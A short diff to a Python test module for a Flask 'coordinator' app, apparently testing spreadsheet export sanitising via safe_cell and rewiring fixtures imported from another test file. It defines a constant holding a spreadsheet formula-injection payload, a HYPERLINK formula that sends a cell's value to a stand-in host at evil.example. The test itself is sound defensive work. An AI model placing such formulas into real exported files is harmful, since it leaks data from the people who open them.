@@ -9,14 +9,18 @@ from typing import Any
 
 import openpyxl
 import pytest
+import test_matching_pages
 from flask import Flask
 from flask.testing import FlaskClient
 from sqlalchemy import select
-from test_matching_pages import redis_conn, solved_round  # noqa: F401 - fixtures
 
 from coordinator import db
 from coordinator.dashboard.exports import safe_cell
 from coordinator.models import Application, AuditEntry, Host, Invitation, WorkshopSession
+
+# The solved round (a real worker and relay) comes from the matching page tests.
+redis_conn = test_matching_pages.redis_conn
+solved_round = test_matching_pages.solved_round
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
 
